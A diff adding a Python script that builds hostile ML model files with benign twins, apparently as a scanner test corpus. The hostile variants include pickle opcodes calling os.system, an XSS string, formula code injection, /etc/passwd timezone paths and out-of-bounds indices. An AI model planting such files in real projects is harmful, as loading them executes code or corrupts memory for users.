@@ -1,0 +1,224 @@
+"""Writes pickles of real models in which one attribute is another than a library puts there, each beside the model as it was.
+
+    python make_hostile.py FOLDER
+
+`FOLDER/hostile/NAME.pkl` opens files, calls what the file chooses or makes compiled code read beyond its memory, when it is loaded or when somebody uses it.
+`FOLDER/benign/twin-NAME.pkl` is the same without that. Nothing here runs what it writes.
+"""
+
+import copy
+import copyreg
+import io
+import pathlib
+import pickle
+import sys
+import warnings
+
+import joblib
+import numpy as np
+import pandas as pd
+import scipy.sparse as sp
+import statsmodels.formula.api as smf
+from sklearn import cluster, ensemble, feature_extraction, linear_model, neighbors, neural_network, pipeline, preprocessing, svm, tree
+
+warnings.filterwarnings("ignore")
+X = np.random.RandomState(7).normal(size=(40, 3)).round(2)
+Y = (X[:, 0] > 0).astype(int)
+WORDS = ["a red apple", "a green pear", "the red pear"]
+
+
+class Made:
+    """An object as a pickle makes it: a call, and a state."""
+
+    def __init__(self, call, args, state=None):
+        self.parts = (call, args) if state is None else (call, args, state)
+
+
+class Pickler(pickle.Pickler):
+    changed = {}
+
+    def reducer_override(self, thing):
+        if isinstance(thing, Made):
+            return thing.parts
+        if id(thing) in self.changed:
+            call, args, state = thing.__reduce__()[:3]
+            return call, args, self.changed[id(thing)](state)
+        return NotImplemented
+
+
+def dumped(thing, changed=None):
+    out = io.BytesIO()
+    pickler = Pickler(out, 4)
+    pickler.changed = changed or {}
+    pickler.dump(thing)
+    return out.getvalue()
+
+
+def made(kind, state):
+    return Made(copyreg._reconstructor, (kind, object, None), state)
+
+
+def pair(model, **attributes):
+    """A model, and one that has these attributes too."""
+    other = copy.copy(model)
+    for name, value in attributes.items():
+        other.__dict__[name] = value
+    return dumped(other), dumped(model)
+
+
+def inside(model, part, change):
+    """A model, and one in which the state of a part is changed."""
+    def changed(state):
+        state = copy.deepcopy(state)
+        return change(state) or state
+    return dumped(model, {id(part): changed}), dumped(model)
+
+
+def put(*path, to):
+    """Sets what lies at the end of a path."""
+    def change(state):
+        *before, last = path
+        for key in before:
+            state = state[key]
+        state[last] = to
+    return change
+
+
+def models():
+    line = linear_model.LinearRegression().fit(X, Y)
+    yield "method_as_attribute", pair(line, predict=np.log1p)
+    yield "unknown_attribute", pair(line, extra=1)
+    yield "documentation_link", pair(line, _doc_link_template='"><img src=x onerror=alert(1)>')
+    yield "representation", pair(line, _repr_html_=np.log1p)
+    stack = ensemble.StackingClassifier([("a", tree.DecisionTreeClassifier(max_depth=1))], cv=2).fit(X, Y)
+    yield "array_for_estimator", pair(stack, estimators_=[np.array([b"#"])])
+    yield "method_by_name", pair(stack, stack_method_=["tofile"])
+    yield "results_for_estimator", pair(stack, final_estimator_=smf.ols("y ~ x", pd.DataFrame({"x": X[:, 0], "y": Y})).fit())
+    function = preprocessing.FunctionTransformer(np.sum, validate=True).fit(X)
+    yield "arguments_of_functions", pair(function, kw_args={"dtype": "O", "initial": "/tmp/x"})
+    yield "text_for_functions", pair(function, kw_args={"axis": "/tmp/x"})
+    steps = pipeline.Pipeline([("scale", preprocessing.StandardScaler()), ("model", linear_model.LogisticRegression())]).fit(X, Y)
+    yield "folder", pair(steps, memory="/tmp/x")
+    yield "frame_for_step", pair(steps, steps=[("model", pd.DataFrame({"a": [1.0]}))])
+    words = feature_extraction.text.CountVectorizer().fit(WORDS)
+    yield "file_for_text", pair(words, input="filename")
+    yield "codec", pair(words, encoding="unicode_escape")
+    yield "place_of_word", pair(words, vocabulary_={**words.vocabulary_, "apple": 1 << 30})
+    from sklearn.model_selection import GridSearchCV
+    search = GridSearchCV(steps, {"model__C": [0.1, 1.0]}, cv=2).fit(X, Y)
+    yield "folder_in_search", pair(search, param_grid={"memory": ["/tmp/x"]})
+    yield "array_for_best", pair(search, best_estimator_=X)
+    leaf = tree.DecisionTreeRegressor(max_depth=2).fit(X, Y)
+    yield "tree_loop", inside(leaf, leaf.tree_, put("nodes", "left_child", to=0))
+    yield "tree_column", inside(leaf, leaf.tree_, put("nodes", "feature", to=1 << 34))
+    yield "tree_count", inside(leaf, leaf.tree_, put("node_count", to=1000))
+    yield "tree_columns", pair(leaf, n_features_in_=1)
+    forest = ensemble.RandomForestRegressor(2, max_depth=1).fit(X, Y)
+    yield "forest_columns", pair(forest, n_features_in_=1)
+    boost = ensemble.GradientBoostingClassifier(n_estimators=2, max_depth=1).fit(X, np.arange(40) % 3)
+    yield "boosting_width", pair(boost, n_classes_=2)
+    yield "boosting_none", pair(boost, estimators_=np.array([[linear_model.Ridge()]], dtype=object))
+    isolation = ensemble.IsolationForest(n_estimators=2, max_samples=8, max_features=2).fit(X)
+    yield "isolation_columns", pair(isolation, estimators_features_=[np.array([0])] * 2)
+    histogram = ensemble.HistGradientBoostingRegressor(max_iter=1, min_samples_leaf=5).fit(X, Y)
+    nodes = histogram._predictors[0][0]
+    for name, field, value in (("column", "feature_idx", 1 << 20), ("child", "left", 0), ("category", "is_categorical", 1)):
+        wrong = copy.deepcopy(histogram)
+        wrong._predictors[0][0].nodes[field] = value
+        yield f"histogram_{name}", (dumped(wrong), dumped(histogram))
+    vectors = svm.SVC().fit(X, Y)
+    yield "support_counts", pair(vectors, _n_support=np.array([1 << 20, 1], dtype="i4"))
+    yield "support_coefficients", pair(vectors, _dual_coef_=vectors._dual_coef_[:, :1])
+    yield "support_lines", pair(vectors, _intercept_=np.zeros(0))
+    means = cluster.KMeans(2, n_init=1).fit(X)
+    yield "centres", pair(means, cluster_centers_=means.cluster_centers_[:, :1])
+    near = neighbors.KNeighborsClassifier(algorithm="kd_tree", leaf_size=5).fit(X, Y)
+    def reorder(state):
+        order = np.array(state[1])
+        order[0] = 1 << 40
+        return (state[0], order, *state[2:])
+    yield "neighbours", inside(near, near._tree, reorder)
+    spline = preprocessing.SplineTransformer(n_knots=3).fit(X)
+    wrong = copy.deepcopy(spline)
+    wrong.bsplines_[0].__dict__["c"] = np.zeros((1, 4))
+    yield "spline", (dumped(wrong), dumped(spline))
+    for name, change in (("indices", lambda m: m.indices.fill(99)), ("begins", lambda m: m.indptr.__setitem__(1, 99)), ("shape", lambda m: m.__dict__.update(_shape=(3, 1)))):
+        matrix = sp.csr_matrix(np.eye(3))
+        wrong = matrix.copy()
+        change(wrong)
+        yield f"sparse_{name}", (dumped(wrong), dumped(matrix))
+    matrix = sp.coo_matrix(np.eye(3))
+    wrong = matrix.copy()
+    wrong.coords = (np.array([0, 1, 99], dtype="i4"), wrong.coords[1])
+    yield "sparse_coordinates", (dumped(wrong), dumped(matrix))
+    numbers = np.random.RandomState(1)
+    state = numbers.get_state(legacy=False)
+    wild = copy.deepcopy(state)
+    wild["state"]["pos"] = 1 << 20
+    call, args, _ = numbers.__reduce__()
+    yield "random_place", (dumped(Made(np.random.RandomState().__reduce__()[0], ("MT19937",), wild)), dumped(Made(call, ("MT19937",), state)))
+    net = neural_network.MLPClassifier((2,), max_iter=3).fit(X, Y)
+    yield "function_for_text", pair(net, activation=np.log1p)
+
+
+def results():
+    from statsmodels.base.data import PandasData
+    frame = pd.DataFrame({"x": X[:, 0], "y": Y})
+    fitted = smf.ols("y ~ x", frame).fit()
+    def data(formula):
+        return dumped(made(PandasData, {"restore_design_info": True, "formula": formula, "frame": frame, "orig_endog": None}))
+    hidden = 'y ~ C("""a""" """ and print(1) and """ """)'
+    yield "formula_in_quotes", (data(hidden), data("y ~ x + C(x > 0)"))
+    yield "formula_in_brackets", (data("y ~ x[print(1)]"), data("y ~ I(x ** 2)"))
+    yield "formula_with_string", (data("y ~ 'a' 'b'"), data('y ~ Q("x")'))
+    for name, attribute in (("design", "design_info"), ("specification", "model_spec")):
+        other = copy.copy(fitted._results)
+        other.model = copy.copy(other.model)
+        state = {**{key: value for key, value in fitted.model.__dict__.items() if key in ("k_constant", "endog_names")}, attribute: "0 + I(print(1))"}
+        other.__dict__["model"] = made(type(fitted.model), state)
+        yield f"{name}_as_text", (dumped(other), dumped(fitted._results))
+
+
+def tables():
+    from pandas._libs.tslibs.timestamps import _unpickle_timestamp
+    from pandas.core.indexes.datetimes import _new_DatetimeIndex
+    zone = np.str_("dateutil//etc/passwd")
+    yield "zone_of_stamp", (dumped(Made(_unpickle_timestamp, (10**18, None, zone, 10))), dumped(pd.Timestamp(10**18)))
+    times = np.array([0], dtype="M8[ns]")
+    yield "zone_of_index", (dumped(Made(_new_DatetimeIndex, (pd.DatetimeIndex, {"data": times, "tz": zone, "freq": None}))), dumped(pd.DatetimeIndex(times)))
+    yield "zone_in_kind", (dumped(Made(_new_DatetimeIndex, (pd.DatetimeIndex, {"data": times, "dtype": "datetime64[ns, dateutil//etc/passwd]"}))), dumped(pd.DatetimeIndex(times, name="at")))
+    frame = pd.DataFrame({"a": [1.0]})
+    other = copy.copy(frame)
+    state = frame.__getstate__()
+    yield "attribute_of_table", (dumped(made(pd.DataFrame, {**state, "to_csv": np.log1p})), dumped(frame))
+
+
+def arrays():
+    """Arrays whose bytes an older joblib reads elsewhere."""
+    for more in range(16):
+        thing = ["x" * more, "id", np.full(64, 7, np.uint8)]
+        out = io.BytesIO()
+        joblib.dump(thing, out, protocol=3)
+        content = out.getvalue()
+        at = content.index(bytes([7] * 64))
+        if content[at - 15] == 14:
+            call = b"cos\nsystem\nh\x01\x85R"
+            yield "older_joblib", (content[: at + 64 - len(call)] + call + content[at + 64 :], content)
+            short = content[: at - 15] + bytes([13]) + b"\xff" * 13 + content[at:]
+            yield "padding", (short, content)
+
+
+def main():
+    folder = pathlib.Path(sys.argv[1])
+    for part, ending in ((models(), "pkl"), (results(), "pkl"), (tables(), "pkl"), (arrays(), "joblib")):
+        for name, (hostile, twin) in part:
+            (folder / "hostile" / f"{name}.{ending}").write_bytes(hostile)
+            (folder / "benign" / f"twin-{name}.{ending}").write_bytes(twin)
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
+    for name, inner in (("objects", b"cos\nsystem\n(X\x02\0\0\0idtR."), ("objects_plain", pickle.dumps([1], 4))):
+        array = b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header + inner
+        (folder / "hostile" / f"{name}.npy").write_bytes(array)
+
+
+if __name__ == "__main__":
+    main()
